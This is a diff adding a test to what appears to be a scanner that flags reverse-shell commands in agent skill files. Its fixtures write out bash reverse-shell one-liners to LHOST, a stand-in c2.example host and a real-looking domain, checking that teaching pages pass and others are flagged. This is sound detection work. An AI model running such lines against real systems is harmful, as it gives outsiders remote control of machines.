@@ -198,3 +198,10 @@ QUOTED = "```\nbash -c 'bash -i >& /dev/tcp/LHOST/4444 0>&1'\n```\n"
 def test_who_teaches_security_may_quote_but_not_ask(description: str, lead: str, is_told: bool) -> None:
     page = f"---\nname: helper\ndescription: {description}\n---\n# Helper\n\n{lead}{QUOTED}"
     assert codes({"SKILL.md": page}) == (set() if is_told else {"scan/reverse-shell"})
+
+
+def test_a_lesson_names_no_place_that_somebody_owns() -> None:
+    page = "---\nname: helper\ndescription: Notes for penetration tests.\n---\n# Helper\n\n## Proof\n\n"
+    lesson = f"{page}```\nbash -i >& /dev/tcp/c2.example/443 0>&1\n```\n"
+    assert codes({"SKILL.md": lesson}) == set()
+    assert codes({"SKILL.md": lesson.replace("c2.example", "get.helper-tools.dev")}) == {"scan/reverse-shell"}
